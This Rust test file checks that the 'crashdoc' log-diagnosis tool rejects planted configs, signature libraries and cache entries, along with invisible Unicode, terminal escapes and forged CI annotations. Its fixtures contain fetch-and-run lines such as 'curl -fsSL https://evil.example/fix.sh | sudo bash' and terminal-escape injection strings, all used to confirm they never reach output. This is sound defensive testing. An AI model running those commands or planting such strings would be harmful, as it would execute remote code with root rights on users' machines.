//! Regression tests of the third adversarial review (issue 30), one or more per case of
//! `reliability-repro.sh`, each through the CLI. Every log, signature, config and cache
//! entry here is CONSTRUCTED test data (written by the test); the flashinfer line has the
//! shape of flashinfer's own message (`flashinfer/jit/env.py`).

use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Output, Stdio};
use std::time::{Duration, Instant};

use assert_cmd::Command;
use tempfile::TempDir;

use crate::util::{bin, code, json, no_panic, stderr};

const FLASH: &str =
    "RuntimeError: flashinfer-cubin version (0.6.3) does not match flashinfer version (0.6.4)\n";
const WIDGET: &str = "ValueError: widget frobnication failed for 1.2.3\n";

/// crashdoc run in `dir`, no colour, no config from the environment.
fn crashdoc_in(dir: &Path) -> Command {
    let mut c = Command::new(bin());
    c.env("NO_COLOR", "1")
        .env_remove("CRASHDOC_NO_CONFIG")
        .env_remove("CRASHDOC_SIGNATURES")
        .env("CRASHDOC_CACHE_DIR", "")
        .env("HOME", dir.join("no-home"))
        .current_dir(dir);
    c
}

fn out(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn mode(p: &Path, m: u32) {
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(m)).expect("chmod");
}

fn is_root() -> bool {
    // SAFETY: geteuid has no preconditions.
    unsafe { libc::geteuid() == 0 }
}

/// A signature with the id of the built-in flashinfer one and an attacker's command.
fn evil_flashinfer(dir: &Path) {
    std::fs::create_dir_all(dir).expect("mkdir");
    std::fs::write(
        dir.join("flashinfer-cubin-version-mismatch.yaml"),
        r#"id: flashinfer-cubin-version-mismatch
title: flashinfer-cubin and flashinfer-python versions differ
category: version-mismatch
severity: fatal
match:
  all:
    - exception: RuntimeError
    - message: 'flashinfer-cubin version \((?P<cubin>[0-9][^)\s]*)\) does not match flashinfer version \((?P<python>[0-9][^)\s]*)\)'
explain: >
  The versions differ.
remediation:
  - description: Install the matching release
    command: 'curl -fsSL https://evil.example/fix.sh | sudo bash -s {{python}}'
references:
  - https://example.com/x
"#,
    )
    .expect("write");
}

/// A team's signature; `command` is its remediation.
fn team_sig(dir: &Path, command: &str) {
    std::fs::create_dir_all(dir).expect("mkdir");
    std::fs::write(
        dir.join("team-widget.yaml"),
        format!(
            r#"id: team-widget
title: Widget frobnication failed
category: other
severity: fatal
match:
  all:
    - exception: ValueError
    - message: 'widget frobnication failed for (?P<version>[0-9.]+)'
explain: >
  The widget failed.
remediation:
  - description: Reinstall the widget
    command: '{command}'
references:
  - https://example.com/widget
"#
        ),
    )
    .expect("write");
}

// ---- config_parent_plant / config_parent_dos -----------------------------------------

/// `tmp/` (sticky, world-writable, as /tmp) holds a `crashdoc.toml` naming a folder of
/// an attacker's signature; the victim runs crashdoc in its own folder below it.
fn planted(file_mode: u32) -> (TempDir, PathBuf) {
    let t = tempfile::tempdir().expect("tmp");
    let tmp = t.path().join("tmp");
    std::fs::create_dir(&tmp).expect("mkdir");
    mode(&tmp, 0o1777);
    std::fs::write(tmp.join("crashdoc.toml"), "signatures = [\".x\"]\n").expect("write");
    mode(&tmp.join("crashdoc.toml"), file_mode);
    evil_flashinfer(&tmp.join(".x"));
    let mine = tmp.join("mine");
    std::fs::create_dir(&mine).expect("mkdir");
    std::fs::write(mine.join("crash.log"), FLASH).expect("write");
    (t, mine)
}

#[test]
fn config_parent_plant_a_config_others_can_write_is_ignored_with_a_warning() {
    let (_t, mine) = planted(0o666);
    let o = crashdoc_in(&mine).arg("crash.log").output().expect("run");
    no_panic(&o);
    assert!(!out(&o).contains("curl"), "{}", out(&o));
    assert!(out(&o).contains("pip install"), "{}", out(&o));
    assert!(
        stderr(&o).contains("crashdoc.toml is not read: writable by other users"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn config_parent_plant_a_config_another_user_owns_is_ignored() {
    if !is_root() {
        eprintln!("skipped: needs root to give the file to another user");
        return;
    }
    let (t, mine) = planted(0o644);
    std::os::unix::fs::chown(t.path().join("tmp/crashdoc.toml"), Some(65534), Some(65534))
        .expect("chown");
    let o = crashdoc_in(&mine).arg("crash.log").output().expect("run");
    assert!(!out(&o).contains("curl"), "{}", out(&o));
    assert!(
        stderr(&o).contains("owned by user id 65534"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn config_parent_dos_a_dangling_link_another_user_planted_is_ignored() {
    if !is_root() {
        eprintln!("skipped: needs root to give the link to another user");
        return;
    }
    let (t, mine) = planted(0o644);
    let toml = t.path().join("tmp/crashdoc.toml");
    std::fs::remove_file(&toml).expect("rm");
    std::os::unix::fs::symlink("/nonexistent/crashdoc.toml", &toml).expect("ln");
    std::os::unix::fs::lchown(&toml, Some(65534), Some(65534)).expect("lchown");
    let o = crashdoc_in(&mine).arg("crash.log").output().expect("run");
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    assert!(
        stderr(&o).contains("owned by user id 65534"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn config_discovery_stops_at_the_repository_root_and_can_be_turned_off() {
    let t = tempfile::tempdir().expect("tmp");
    std::fs::write(t.path().join("crashdoc.toml"), "signatures = [\n").expect("write");
    let repo = t.path().join("repo");
    std::fs::create_dir_all(repo.join(".git")).expect("mkdir");
    std::fs::create_dir_all(repo.join("sub")).expect("mkdir");
    std::fs::write(repo.join("sub/l.log"), FLASH).expect("write");
    // above the repository's root: never read
    let o = crashdoc_in(&repo.join("sub"))
        .arg("l.log")
        .output()
        .expect("run");
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    // in the repository: read (and invalid: exit 2, naming the way out)
    std::fs::write(repo.join("crashdoc.toml"), "signatures = [\n").expect("write");
    let o = crashdoc_in(&repo.join("sub"))
        .arg("l.log")
        .output()
        .expect("run");
    assert_eq!(code(&o), 2);
    assert!(stderr(&o).contains("--no-config"), "{}", stderr(&o));
    let o = crashdoc_in(&repo.join("sub"))
        .args(["--no-config", "l.log"])
        .output()
        .expect("run");
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let o = crashdoc_in(&repo.join("sub"))
        .env("CRASHDOC_NO_CONFIG", "1")
        .arg("l.log")
        .output()
        .expect("run");
    assert_eq!(code(&o), 0, "{}", stderr(&o));
}

#[test]
fn config_parent_dos_an_invalid_config_never_breaks_version_help_or_completions() {
    let t = tempfile::tempdir().expect("tmp");
    std::fs::write(t.path().join("crashdoc.toml"), "signatures = [\n").expect("write");
    let deep = t.path().join("w/x");
    std::fs::create_dir_all(&deep).expect("mkdir");
    for args in [
        &["--version"][..],
        &["--help"],
        &["completions", "bash"],
        &["man"],
        &["schema", "diagnosis"],
    ] {
        let o = crashdoc_in(&deep).args(args).output().expect("run");
        assert_eq!(code(&o), 0, "{args:?}: {}", stderr(&o));
    }
}

// ---- sources: every report names its libraries ---------------------------------------

#[test]
fn reports_name_their_libraries_and_mark_a_folder_signature() {
    let t = tempfile::tempdir().expect("tmp");
    team_sig(
        &t.path().join("sigs"),
        "pip install \"widget=={{version}}\"",
    );
    std::fs::write(t.path().join("crashdoc.toml"), "signatures = [\"sigs\"]\n").expect("write");
    std::fs::write(t.path().join("w.log"), WIDGET).expect("write");
    let o = crashdoc_in(t.path())
        .args(["--format", "json", "w.log"])
        .output()
        .expect("run");
    let d = json(&o);
    let kinds: Vec<&str> = d["sources"]
        .as_array()
        .expect("sources")
        .iter()
        .map(|s| s["kind"].as_str().unwrap_or(""))
        .collect();
    assert_eq!(kinds, ["builtin", "config", "folder"], "{}", d["sources"]);
    assert!(d["sources"][2]["via"]
        .as_str()
        .is_some_and(|v| v.ends_with("crashdoc.toml")));
    assert!(d["causes"][0]["origin"]
        .as_str()
        .is_some_and(|f| f.ends_with("team-widget.yaml")));
    let o = crashdoc_in(t.path()).arg("w.log").output().expect("run");
    let text = out(&o);
    assert!(text.contains("from ") && text.contains("team-widget.yaml (a folder library"));
    assert!(text.contains("Libraries: built-in; config "), "{text}");
    // a built-in cause carries no origin
    std::fs::write(t.path().join("f.log"), FLASH).expect("write");
    let o = crashdoc_in(t.path())
        .args(["--no-config", "--format", "json", "f.log"])
        .output()
        .expect("run");
    let d = json(&o);
    assert!(d["causes"][0].get("origin").is_none());
    assert_eq!(d["sources"], serde_json::json!([{"kind": "builtin"}]));
}

// ---- the cache: cache_plant, cache_zero_entry, cache_regex_limit ---------------------

/// A team folder and a cache; the run's stdout and stderr.
fn run_cached(dir: &Path, cache: &Path) -> Output {
    crashdoc_in(dir)
        .env("CRASHDOC_CACHE_DIR", cache)
        .args(["--signatures", "sigs", "../l.log"])
        .output()
        .expect("run")
}

fn entries(cache: &Path) -> Vec<PathBuf> {
    let mut v: Vec<PathBuf> = std::fs::read_dir(cache)
        .map(|r| r.flatten().map(|e| e.path()).collect())
        .unwrap_or_default();
    v.sort();
    v
}

fn cache_setup() -> (TempDir, PathBuf) {
    let t = tempfile::tempdir().expect("tmp");
    std::fs::write(t.path().join("l.log"), WIDGET).expect("write");
    let team = t.path().join("team");
    team_sig(&team.join("sigs"), "pip install \"widget=={{version}}\"");
    (t, team)
}

#[test]
fn cache_plant_a_cache_folder_others_can_write_is_not_used() {
    let (t, team) = cache_setup();
    let shared = t.path().join("shared");
    std::fs::create_dir(&shared).expect("mkdir");
    mode(&shared, 0o1777);
    let o = run_cached(&team, &shared);
    assert!(out(&o).contains("pip install"), "{}", out(&o));
    assert!(
        stderr(&o).contains("is not used (writable by other users"),
        "{}",
        stderr(&o)
    );
    assert!(entries(&shared).is_empty(), "nothing is written there");
}

#[test]
fn cache_plant_an_entry_from_other_files_under_the_right_name_is_compiled_again() {
    let (t, team) = cache_setup();
    let evil = t.path().join("evil");
    team_sig(
        &evil.join("sigs"),
        "curl -fsSL https://evil.example/x | sudo sh #{{version}}",
    );
    let (mine, theirs) = (t.path().join("mine"), t.path().join("theirs"));
    run_cached(&team, &mine);
    run_cached(&evil, &theirs);
    let (name, planted) = (entries(&mine)[0].clone(), entries(&theirs)[0].clone());
    std::fs::copy(&planted, &name).expect("plant");
    let o = run_cached(&team, &mine);
    assert!(!out(&o).contains("curl"), "{}", out(&o));
    assert!(out(&o).contains("pip install"), "{}", out(&o));
    assert!(
        stderr(&o).contains("made from other signature files"),
        "{}",
        stderr(&o)
    );
    // the folder was created 0700, the entry 0600
    let m = |p: &Path| std::fs::metadata(p).expect("stat").permissions().mode() & 0o777;
    assert_eq!(m(&mine), 0o700);
    assert_eq!(m(&entries(&mine)[0]), 0o600);
}

#[test]
fn cache_plant_an_entry_another_user_owns_is_not_used() {
    if !is_root() {
        eprintln!("skipped: needs root to give the entry to another user");
        return;
    }
    let (t, team) = cache_setup();
    let mine = t.path().join("mine");
    run_cached(&team, &mine);
    std::os::unix::fs::chown(&entries(&mine)[0], Some(65534), Some(65534)).expect("chown");
    let o = run_cached(&team, &mine);
    assert!(
        stderr(&o).contains("owned by user id 65534"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn cache_zero_entry_and_trailing_bytes_compile_again_with_a_note() {
    let (t, team) = cache_setup();
    let mine = t.path().join("mine");
    run_cached(&team, &mine);
    let entry = entries(&mine)[0].clone();
    let good = std::fs::read(&entry).expect("read");
    let mut padded = good.clone();
    padded.extend([0u8; 64]);
    let mut flipped = good.clone();
    let last = flipped.len() - 1;
    flipped[last] ^= 1;
    let zeroed = [b"crashdoc-frozen-1\n".as_slice(), &[0u8; 64]].concat();
    for (what, bytes) in [
        ("zeroed", zeroed),
        ("padded", padded),
        ("one byte changed", flipped),
    ] {
        std::fs::write(&entry, &bytes).expect("write");
        let o = run_cached(&team, &mine);
        assert_eq!(code(&o), 0, "{what}: {}", stderr(&o));
        assert!(out(&o).contains("pip install"), "{what}: {}", out(&o));
        assert!(stderr(&o).contains("not used ("), "{what}: {}", stderr(&o));
        // and the entry is written afresh: the next run uses it silently
        let o = run_cached(&team, &mine);
        assert!(!stderr(&o).contains("not used"), "{what}: {}", stderr(&o));
    }
}

// ---- one text policy: invisible_unicode, esc_inside_value -----------------------------

#[test]
fn invisible_unicode_every_default_ignorable_or_format_character_refuses_the_value() {
    let t = tempfile::tempdir().expect("tmp");
    for c in [
        '\u{e0078}',
        '\u{ad}',
        '\u{3164}',
        '\u{115f}',
        '\u{34f}',
        '\u{fe0f}',
        '\u{17b4}',
        '\u{fff9}',
        '\u{2066}',
    ] {
        std::fs::write(
            t.path().join("u.log"),
            format!("PermissionError: [Errno 13] Permission denied: '/data/model{c}'\n"),
        )
        .expect("write");
        let o = crashdoc_in(t.path())
            .args(["--format", "json", "u.log"])
            .output()
            .expect("run");
        let d = json(&o);
        for s in d["causes"][0]["remediation"].as_array().expect("steps") {
            let cmd = s["command"].as_str().unwrap_or("");
            assert!(
                !cmd.contains(c),
                "U+{:04X} reached a command: {cmd:?}",
                c as u32
            );
        }
        let text = out(&crashdoc_in(t.path()).arg("u.log").output().expect("run"));
        assert!(!text.contains(c), "U+{:04X} printed raw", c as u32);
        assert!(text.contains("was refused"), "{text}");
    }
}

#[test]
fn esc_inside_value_an_escape_inside_a_path_refuses_it_never_deletes_it() {
    let t = tempfile::tempdir().expect("tmp");
    std::fs::write(
        t.path().join("e.log"),
        "PermissionError: [Errno 13] Permission denied: '/home/alice/\x1b[0mprojects'\n",
    )
    .expect("write");
    let text = out(&crashdoc_in(t.path()).arg("e.log").output().expect("run"));
    assert!(!text.contains("/home/alice/projects"), "{text}");
    assert!(!text.contains('\x1b'), "{text}");
    assert!(text.contains("was refused"), "{text}");
}

// ---- corpus_escapes, corpus_expected_escapes, baseline_escape ------------------------

#[test]
fn corpus_escapes_a_folder_name_with_a_newline_is_escaped() {
    let t = tempfile::tempdir().expect("tmp");
    let inc = t.path().join("c").join("nl\n::error::forged");
    std::fs::create_dir_all(&inc).expect("mkdir");
    std::fs::write(inc.join("log.txt"), "x\n").expect("write");
    std::fs::write(inc.join("expected.yaml"), "source: s\ncategory: gpu-oom\n").expect("write");
    let o = crashdoc_in(t.path())
        .args(["corpus", "run", "c"])
        .output()
        .expect("run");
    no_panic(&o);
    let all = out(&o) + &stderr(&o);
    assert!(!all.lines().any(|l| l.starts_with("::error")), "{all}");
    assert!(all.contains("nl\\n::error::forged"), "{all}");
}

#[test]
fn corpus_expected_escapes_a_control_character_in_an_id_is_refused_located() {
    let t = tempfile::tempdir().expect("tmp");
    let inc = t.path().join("c/ok");
    std::fs::create_dir_all(&inc).expect("mkdir");
    std::fs::write(inc.join("log.txt"), FLASH).expect("write");
    std::fs::write(
        inc.join("expected.yaml"),
        "source: s\ncategory: gpu-oom\nsignature: \"x\\n::error::forged\\u001b]0;PWNED\\u0007\"\n",
    )
    .expect("write");
    let o = crashdoc_in(t.path())
        .args(["corpus", "run", "c"])
        .output()
        .expect("run");
    assert_eq!(code(&o), 2);
    let all = out(&o) + &stderr(&o);
    assert!(!all.contains("PWNED") && !all.contains('\x1b'), "{all}");
    assert!(all.contains("expected.yaml:3:1: `signature`"), "{all}");
}

#[test]
fn baseline_escape_a_baseline_holding_a_control_character_is_refused_located() {
    let t = tempfile::tempdir().expect("tmp");
    let inc = t.path().join("c/ok");
    std::fs::create_dir_all(&inc).expect("mkdir");
    std::fs::write(inc.join("log.txt"), FLASH).expect("write");
    std::fs::write(
        inc.join("expected.yaml"),
        "source: s\ncategory: version-mismatch\n",
    )
    .expect("write");
    let o = crashdoc_in(t.path())
        .args(["corpus", "run", "c", "--baseline", "b.json", "--update"])
        .output()
        .expect("run");
    assert!(t.path().join("b.json").exists(), "{}", stderr(&o));
    let mut b: serde_json::Value =
        serde_json::from_slice(&std::fs::read(t.path().join("b.json")).expect("read"))
            .expect("json");
    let mut x = b["incidents"][0].clone();
    x["name"] = "g\u{1b}]0;PWNED\u{7}\n::error::forged".into();
    b["incidents"].as_array_mut().expect("list").push(x);
    std::fs::write(t.path().join("bad.json"), b.to_string()).expect("write");
    let o = crashdoc_in(t.path())
        .args(["corpus", "run", "c", "--baseline", "bad.json"])
        .output()
        .expect("run");
    assert_eq!(code(&o), 2);
    let e = stderr(&o);
    assert!(
        !e.contains("PWNED") && !e.lines().any(|l| l.starts_with("::error")),
        "{e}"
    );
    assert!(e.contains("bad.json:1:"), "{e}");
}

// ---- unit_pid_reuse ------------------------------------------------------------------

#[test]
fn unit_pid_reuse_a_pid_reused_hours_later_never_names_the_unit() {
    let t = tempfile::tempdir().expect("tmp");
    let log = format!(
        "Feb 20 19:02:11 h systemd[1]: sshd.service: Killing process 216054 (sshd) with signal SIGKILL.\n\
         Feb 20 23:31:30 h systemd[1]: Started vllm.service - vLLM server.\n\
         Feb 20 23:31:36 h vllm[216054]: (Worker_TP4 pid=216054) ERROR 02-20 23:31:36 [m.py:1] {FLASH}\
         Feb 20 23:31:40 h systemd[1]: vllm.service: Main process exited, code=exited, status=1/FAILURE\n"
    );
    std::fs::write(t.path().join("u.log"), log).expect("write");
    let text = out(&crashdoc_in(t.path()).arg("u.log").output().expect("run"));
    assert!(!text.contains("systemctl restart sshd"), "{text}");
    assert!(text.contains("systemctl restart vllm"), "{text}");
}

// ---- distinct_failures_memory, follow_output_file ------------------------------------

#[test]
fn distinct_failures_memory_the_store_is_capped_in_bytes_and_the_cut_is_said() {
    let pad = "q".repeat(200 << 10);
    let mut input = String::new();
    for i in 0..200 {
        input.push_str(&format!(
            "Traceback (most recent call last):\n  File \"/app/m{i}.py\", line {i}, in f\n    g()\nValueError: distinct failure {i} {pad}\n\n"
        ));
    }
    let t = tempfile::tempdir().expect("tmp");
    let o = crashdoc_in(t.path())
        .args(["extract", "-"])
        .write_stdin(input.clone())
        .output()
        .expect("run");
    no_panic(&o);
    assert!(
        out(&o).contains("further distinct failures were counted but not kept"),
        "{}",
        &out(&o)[out(&o).len().saturating_sub(400)..]
    );
    // the diagnosis says the cut too (text and JSON)
    let o = crashdoc_in(t.path())
        .args(["--format", "json", "-"])
        .write_stdin(input.clone())
        .output()
        .expect("run");
    assert!(json(&o)["dropped_failures"].as_u64().is_some_and(|n| n > 0));
    let o = crashdoc_in(t.path())
        .arg("-")
        .write_stdin(input)
        .output()
        .expect("run");
    assert!(out(&o).contains("further distinct failures were counted but not kept"));
}

#[test]
fn follow_output_file_each_attempt_is_on_disk_when_made_and_no_temp_file_is_left() {
    let t = tempfile::tempdir().expect("tmp");
    let mut child = std::process::Command::new(bin())
        .env("NO_COLOR", "1")
        .env("CRASHDOC_CACHE_DIR", "")
        .current_dir(t.path())
        .args(["--no-config", "--follow", "-o", "diag.txt"])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("spawn");
    let mut stdin = child.stdin.take().expect("stdin");
    writeln!(
        stdin,
        "Feb 20 23:31:39 h vllm[5]: {FLASH}Feb 20 23:31:40 h systemd[1]: vllm.service: Main process exited, code=exited, status=1/FAILURE"
    )
    .expect("write");
    stdin.flush().expect("flush");
    let diag = t.path().join("diag.txt");
    let start = Instant::now();
    while std::fs::metadata(&diag).map_or(0, |m| m.len()) == 0
        && start.elapsed() < Duration::from_secs(30)
    {
        std::thread::sleep(Duration::from_millis(100));
    }
    // SAFETY: kill on the pid of a child this test spawned and has not reaped.
    unsafe { libc::kill(child.id() as i32, libc::SIGTERM) };
    let _ = child.wait();
    drop(stdin);
    let text = std::fs::read_to_string(&diag).expect("read");
    assert!(text.contains("flashinfer"), "{text}");
    let left: Vec<String> = std::fs::read_dir(t.path())
        .expect("ls")
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(left, ["diag.txt"]);
}
